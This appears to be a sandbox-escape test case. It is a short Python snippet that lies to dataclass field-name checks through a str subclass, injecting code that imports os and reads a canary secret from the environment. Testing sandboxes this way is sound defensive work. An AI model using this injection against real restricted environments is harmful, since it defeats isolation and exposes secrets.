# technique: str subclass field name whose isidentifier()/startswith() lie to a Python-level dataclass field-name check
# expect: any
import dataclasses
class Name(str):
    def isidentifier(self):
        return True
    def startswith(self, *args):
        return False
payload = Name('__class__,__import__("os"))#')
C = type("C", (), {"__annotations__": {payload: int}, "__module__": "json", "__doc__": "d"})
C = dataclasses.dataclass(C, init=False, repr=False)
os_mod = (C() == C())[1]
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
